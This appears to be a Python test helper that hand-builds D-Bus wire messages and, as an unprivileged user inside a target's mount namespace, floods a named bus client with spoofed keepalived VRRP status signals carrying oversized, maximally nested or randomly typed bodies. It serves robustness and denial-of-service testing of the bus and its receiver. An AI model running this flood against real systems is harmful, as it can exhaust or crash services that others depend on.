# SPDX-License-Identifier: GPL-2.0-or-later
"""A local user of no rights who sends signals to somebody on the bus, as fast as the bus takes them.

The program is given to an interpreter of its own as text: it needs nothing of the project's, and what it
makes it makes once, so that the bus and its victim do all the work.
"""

import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

PROGRAM = r"""
import itertools, os, random, socket, struct, sys

path, victim, kind = sys.argv[1:]
os.setgroups([])
os.setgid(65534)
os.setuid(65534)

def string(text):
    return struct.pack("<I", len(text)) + text + b"\0"

def field(code, kind, value):
    return bytes((code, 1)) + kind + b"\0" + value

def aligned(data, to=8):
    return data + bytes(-len(data) % to)

def signature_of(text):
    return bytes((len(text),)) + text + b"\0"

def message(number, target, path, interface, member, type_=4, signature=b"", body=b"", flags=1):
    fields = [field(1, b"o", string(path)), field(2, b"s", string(interface)),
              field(3, b"s", string(member)), field(6, b"s", string(target))]
    if signature:
        fields.append(field(8, b"g", signature_of(signature)))
    whole = b"".join(aligned(one) for one in fields[:-1]) + fields[-1]
    fixed = struct.pack("<BBBBIII", ord("l"), type_, flags, 1, len(body), number, len(whole))
    return aligned(fixed + whole) + body

SIZES = {b"y": 1, b"n": 2, b"q": 2, b"i": 4, b"u": 4, b"x": 8, b"t": 8, b"d": 8}

def body_of(types):
    length = 0
    for one in types:
        length += -length % SIZES[one] + SIZES[one]
    return bytes(length)

def bodies():
    if kind == "large":
        size = 31 << 20
        yield b"au", struct.pack("<I", size) + bytes(size)
    elif kind == "deep":
        yield b"v", b"\1v\0" * 30 + b"\1y\0" + bytes(1)
        yield b"a" * 31 + b"y", bytes(4)
        yield b"(" * 31 + b"y" + b")" * 31, bytes(1)
    else:
        for _ in range(30_000):
            types = random.choices(list(SIZES), k=random.randint(100, 250))
            yield b"".join(types), body_of(types)

bus = socket.socket(socket.AF_UNIX)
bus.connect(path)
bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
assert bus.recv(100).startswith(b"OK")
own = b"org.freedesktop.DBus"
bus.sendall(b"BEGIN\r\n" + message(1, own, b"/" + own.replace(b".", b"/"), own, b"Hello", 1, flags=0))
assert bus.recv(1000)
to = victim.encode()
about = b"/org/keepalived/Vrrp1/Instance/eth0/62/IPv4", b"org.keepalived.Vrrp1.Instance", b"VrrpStatusChange"
made = [message(2, to, *about, 4, *one) for one in bodies()]
print("ready", flush=True)
for count, one in enumerate(itertools.cycle(made), 1):
    bus.sendall(one)
    if count == len(made):
        print("once", flush=True)
"""


@contextmanager
def attack(pid: int, socket_path: Path, victim: str, kind: str) -> Iterator["subprocess.Popen[str]"]:
    """Until the end of the block, among the files of `pid`. `kind`: large, signatures or deep."""
    argv = [
        "nsenter",
        "-m",
        "-t",
        str(pid),
        "/usr/bin/python3",
        "-Ic",
        PROGRAM,
        str(socket_path),
        victim,
        kind,
    ]
    with subprocess.Popen(argv, stdout=subprocess.PIPE, text=True) as attacker:
        try:
            assert attacker.stdout
            assert attacker.stdout.readline() == "ready\n"
            yield attacker
        finally:
            attacker.kill()
